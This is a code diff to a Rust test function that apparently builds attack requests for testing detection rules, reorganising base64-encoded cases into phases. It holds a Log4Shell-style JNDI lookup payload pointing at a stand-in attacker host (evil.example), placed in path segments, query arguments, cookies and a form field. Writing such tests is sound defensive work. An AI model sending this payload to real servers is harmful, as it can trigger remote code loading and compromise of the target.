@@ -1133,9 +1133,11 @@ fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
         hdr("X-Preview", "data:text/html,<b>x</b>"),
     ]);
 
-    // 60-java: base64 lookups in query arguments, cookies and path segments.
+    // 60-java: base64 lookups in path segments (phase 1), query arguments
+    // and cookies (phase 2).
     let jndi = "${jndi:ldap://evil.example:1389/a}";
-    add(4260100, vec![q(&b64(jndi.as_bytes(), false)), cookie(&b64(jndi.as_bytes(), true)), seg64(jndi)]);
+    add(4260100, vec![seg64(jndi)]);
+    add(4260110, vec![q(&b64(jndi.as_bytes(), false)), cookie(&b64(jndi.as_bytes(), true)), form(&[("bio", &b64(jndi.as_bytes(), false))])]);
     v
 }
 
